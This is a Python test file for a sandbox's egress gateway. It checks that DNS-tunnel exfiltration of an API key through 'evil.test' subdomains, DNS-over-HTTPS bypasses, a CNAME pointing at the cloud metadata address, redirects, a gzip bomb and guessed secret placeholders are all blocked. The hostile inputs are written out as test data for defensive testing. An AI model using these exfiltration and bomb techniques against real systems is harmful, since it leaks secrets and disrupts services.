"""Attacks by other channels: other resolvers, servers that ask for something, answers that are weapons, guesses.

Judged from what reached the canary servers, what the resolver was asked, and from the audit log.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import socket
import ssl
import struct
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from tests.support.egress_lab import (
    SERVER_CA,
    HttpServer,
    Lab,
    dns_query,
    egress_lab,
    http_server,
    read_all,
    scripted_server,
)
from tests.support.tcp import tcp_server
from tests.support.waiting import until

from taskvm.egress.oversight import Oversight, Question
from taskvm.egress.policy import Policy
from taskvm.egress.secret import Secret
from taskvm.net.resolver import HostResolver
from taskvm.net.upstream import AddressRefused, Dialer
from taskvm.port import StreamReset
from taskvm.wire.message import Origin

VALUE = "sk-live-0123456789abcdef"
HOSTS = {"api.test": ["127.0.0.1"], "evil.test": ["127.0.0.1"]}


@pytest.fixture
def canary() -> Iterator[HttpServer]:
    """A server over TLS that no refused request may reach."""
    with http_server("api.test", "evil.test") as server:
        yield server


@asynccontextmanager
async def lab_for(port: int, *secrets: Secret, rules: str = "") -> AsyncIterator[Lab]:
    async with egress_lab(
        allow=[] if rules else ["api.test"], rules=rules, secrets=secrets,
        allow_addresses=[f"127.0.0.1:{port}"], hosts=HOSTS,
    ) as lab:  # fmt: skip
        yield lab


def request(port: int, line: str = "GET / HTTP/1.1", *headers: str) -> bytes:
    lines = [line, f"Host: api.test:{port}", "Connection: close", *headers, "", ""]
    return "\r\n".join(lines).encode()


# Other ways to ask for a name.


@pytest.mark.parametrize("address", ["10.0.2.3", "8.8.8.8", "127.0.0.53"])
@pytest.mark.parametrize("port", [53, 853])
async def test_dns_over_tcp_goes_nowhere(address: str, port: int) -> None:
    """What stands in the guest's resolv.conf answers datagrams only."""
    query = dns_query("secret-data.evil.test")
    async with egress_lab(allow=["api.test"], hosts=HOSTS) as lab:
        sock = await lab.guest.connect(address, port)
        with pytest.raises(StreamReset):
            await sock.exchange(struct.pack(">H", len(query)) + query)

        assert [e.address for e in lab.denials("connect")] == [address, address]
        assert lab.resolver.asked == []


async def test_dns_over_tls_to_an_allowed_host_is_no_http(canary: HttpServer) -> None:
    async with lab_for(canary.port) as lab:
        address = await lab.address_of("api.test")
        async with lab.tls(address, canary.port, "api.test", alpn=["dot"]) as stream:
            query = dns_query("secret-data.evil.test")
            with contextlib.suppress(OSError, ssl.SSLError):
                await stream.write(struct.pack(">H", len(query)) + query)
                await read_all(stream)

        assert lab.denials("tls")[0].reason == "the client speaks no HTTP"
        assert lab.resolver.asked == []
    assert canary.connections == 0


@pytest.mark.parametrize("address", ["1.1.1.1", "8.8.8.8"])
async def test_dns_over_https_to_a_host_that_no_rule_names_is_refused(address: str) -> None:
    async with egress_lab(allow=["api.test"], hosts=HOSTS) as lab:
        assert await lab.guest.resolve("dns.google") == (3, None)
        async with lab.tls(address, 443, None) as stream:
            await stream.write(f"GET /dns-query HTTP/1.1\r\nHost: {address}\r\n\r\n".encode())
            answer = await stream.read()

        assert b" 403 " in answer
        assert lab.denials("connect")[0].address == address
        assert lab.resolver.asked == []


@pytest.mark.parametrize("name", ["printer.local", "_http._tcp.local", "localhost", "wpad"])
async def test_names_of_the_local_network_do_not_exist(name: str) -> None:
    """Multicast DNS has no way out; its names asked of our resolver are denied like any others."""
    async with egress_lab(allow=["api.test"], hosts=HOSTS) as lab:
        rcode, address = await lab.guest.resolve(name)

        assert rcode
        assert address is None
        assert lab.denials("dns")
        assert lab.resolver.asked == []


async def test_an_alias_that_leads_inside_leads_nowhere(monkeypatch: pytest.MonkeyPatch) -> None:
    """A CNAME to an internal name: what counts are the addresses that the host's resolver found for it."""
    found = [(socket.AF_INET, socket.SOCK_STREAM, 6, "metadata.internal", ("169.254.169.254", 0))]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *given, **more: found)
    resolver = HostResolver()
    dialer = Dialer(Policy.parse(["api.test"]), resolver)

    with pytest.raises(AddressRefused):
        await dialer.reach(Origin("https", "api.test", 443))
    resolver.close()


@pytest.mark.parametrize("asks", [False, True])
async def test_a_value_in_a_name_is_not_looked_up_and_not_written_down(asks: bool) -> None:
    """Under an allowed wildcard, or where a person is asked, the zone's owner would see the name."""
    asked: list[Question] = []
    secret = Secret("KEY", VALUE.upper(), hosts=["api.test"])
    async with egress_lab(
        allow=["api.test", "*.evil.test"], secrets=[secret], hosts=HOSTS,
        oversight=Oversight(asked.append) if asks else None,  # type: ignore[arg-type]  # it answers nothing
    ) as lab:  # fmt: skip
        answers = [
            await lab.guest.resolve(name)
            for name in (f"{VALUE}.evil.test", f"x-{VALUE}.other.test", "plain.evil.test")
        ]

        assert [rcode for rcode, _ in answers] == [3, 3, 0]
        assert lab.resolver.asked == []
        assert [(e.host, e.rule) for e in lab.denials("dns")] == [
            ("{KEY}.evil.test", "secret"), ("x-{KEY}.other.test", "secret"),
        ]  # fmt: skip
        assert VALUE.encode() not in b"".join(lab.lines).lower()
    assert asked == []


async def test_a_host_that_a_rule_writes_may_have_the_words_of_a_value() -> None:
    secret = Secret("TENANT", "acme-corp", hosts=["api.test"])
    async with egress_lab(allow=["api.test", "acme-corp.test"], secrets=[secret]) as lab:
        assert (await lab.guest.resolve("acme-corp.test"))[0] == 0
        assert [event.host for event in lab.events] == ["acme-corp.test"]


# Servers that want something.


async def test_a_server_that_wants_a_certificate_of_its_client_gets_none(tmp_path: Path) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    SERVER_CA.issue_cert("api.test").configure_cert(context)
    context.verify_mode = ssl.CERT_REQUIRED
    SERVER_CA.configure_trust(context)
    heads: list[bytes] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heads.append(await reader.read(1000))

    secret = Secret("KEY", VALUE, hosts=["api.test"])
    async with tcp_server(serve, ssl=context) as port, lab_for(port, secret) as lab:
        address = await lab.address_of("api.test")
        key = f"Authorization: {lab.secrets[0].placeholder}"
        async with lab.tls(address, port, "api.test") as stream:
            await stream.write(request(port, "GET / HTTP/1.1", key))
            answer = await read_all(stream)

        assert answer.startswith(b"HTTP/1.1 502 ")
        assert [e.decision for e in lab.events if e.kind in ("connect", "response")].count("error")
    assert heads == []


async def test_a_redirect_is_the_guests_to_follow_and_judged_again() -> None:
    """Nothing on the host follows one, and the secret does not go along."""
    with http_server("api.test", "evil.test") as inside:
        answer = (
            f"HTTP/1.1 302 Found\r\nLocation: https://evil.test:{inside.port}/\r\n"
            "Content-Length: 0\r\n\r\n"
        )
        async with scripted_server(answer.encode()) as redirecting:
            secret = Secret("KEY", VALUE, hosts=[f"api.test:{redirecting.port}"])
            async with lab_for(redirecting.port, secret) as lab:
                key = f"Authorization: {lab.secrets[0].placeholder}"
                sock = await lab.connect("api.test", redirecting.port)
                answered = await sock.exchange(request(redirecting.port, "GET / HTTP/1.1", key))
                rcode, _ = await lab.guest.resolve("evil.test")

                assert answered.startswith(b"HTTP/1.1 302")
                assert rcode == 3
                assert lab.resolver.asked == ["api.test"]
        assert inside.connections == 0


@pytest.mark.parametrize("path", ["/admin", "/socket/../admin"])
async def test_a_websocket_to_a_path_that_is_denied_is_not_opened(
    canary: HttpServer, path: str
) -> None:
    rules = '[[rules]]\naction = "allow"\nhosts = ["api.test"]\npaths = ["/socket"]\n'
    opening = [
        "Upgrade: websocket", "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    ]  # fmt: skip
    async with lab_for(canary.port, rules=rules) as lab:
        address = await lab.address_of("api.test")
        async with lab.tls(address, canary.port, "api.test") as stream:
            head = request(canary.port, f"GET {path} HTTP/1.1", *opening)
            await stream.write(head.replace(b"Connection: close", b"Connection: Upgrade"))
            answer = await stream.read()

        assert answer.startswith(b"HTTP/1.1 403 ")
        assert lab.denials("request")[0].path == path
    assert canary.connections == 0


# Answers that are weapons.


async def test_a_bomb_passes_as_it_is() -> None:
    """Nothing on the host decompresses: what a server compresses is the guest's own to open."""
    bomb = gzip.compress(bytes(50_000_000), 9)
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: gzip\r\n"
    async with scripted_server(head + b"Content-Length: %d\r\n\r\n" % len(bomb) + bomb) as server:
        secret = Secret("KEY", VALUE, hosts=[f"api.test:{server.port}"])
        async with lab_for(server.port, secret) as lab:
            sock = await lab.connect("api.test", server.port)
            answer = await sock.exchange(request(server.port))

            ended = [e.bytes_down for e in lab.events if e.kind == "response"]
    assert answer.endswith(bomb)
    assert ended == [len(bomb)]


async def test_an_answer_without_end_ends_with_the_guests_connection() -> None:
    """Redacted as it streams, in bounded memory: the server is cut when the guest has had enough."""
    cut = asyncio.Event()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n")
        with contextlib.suppress(OSError):
            while True:
                writer.write(VALUE[:-1].encode() * 2000)  # what may be the beginning of a value
                await writer.drain()
        cut.set()

    async with (
        tcp_server(serve) as port,
        lab_for(port, Secret("KEY", VALUE, hosts=[f"api.test:{port}"])) as lab,
    ):
        sock = await lab.connect("api.test", port)
        await sock.write(request(port))
        received = 0
        while received < 2_000_000:
            received += len(await sock.read())
        sock.reset()
        await until(cut.is_set)
        await until(lambda: not lab.gateway.connections)

        assert [e.decision for e in lab.events if e.kind == "response"] == ["error"]


# Guesses.


async def test_a_placeholder_that_was_guessed_wrong_is_text_like_any_other(
    canary: HttpServer,
) -> None:
    """Nothing tells a guess that is nearly right from one that is not: both pass as they are."""
    async with lab_for(canary.port, Secret("KEY", VALUE, hosts=["api.test"])) as lab:
        right = lab.secrets[0].placeholder
        guesses = [right[:-1], right[:-1] + "x", right.upper(), "taskvm_secret_KEY_" + "0" * 48]
        address = await lab.address_of("api.test")
        answers = set()
        for guess in guesses:
            async with lab.tls(address, canary.port, "api.test") as stream:
                await stream.write(
                    request(canary.port, "GET / HTTP/1.1", f"Authorization: {guess}")
                )
                answers.add((await read_all(stream)).split(b"\r\nDate", 1)[0])

        assert len(answers) == 1
        assert lab.denials("secret") == []
    assert [seen.header("Authorization") for seen in canary.requests] == guesses


async def test_a_refusal_does_not_say_what_the_value_is_or_where_it_may_go(
    canary: HttpServer,
) -> None:
    """The right placeholder for the wrong host, and the value itself: the answer has nothing of either."""
    secret = Secret("KEY", VALUE, hosts=["hidden.test"])
    async with egress_lab(
        allow=["api.test", "hidden.test"], allow_addresses=[f"127.0.0.1:{canary.port}"],
        hosts=HOSTS, secrets=[secret],
    ) as lab:  # fmt: skip
        address = await lab.address_of("api.test")
        answers = []
        for text in (lab.secrets[0].placeholder, VALUE):
            async with lab.tls(address, canary.port, "api.test") as stream:
                await stream.write(request(canary.port, "GET / HTTP/1.1", f"Authorization: {text}"))
                answers.append(await read_all(stream))

        assert all(b" 403 " in answer for answer in answers)
        told = b"".join(answers)
        assert [text for text in (VALUE.encode(), b"hidden.test") if text in told] == []
    assert canary.requests == []
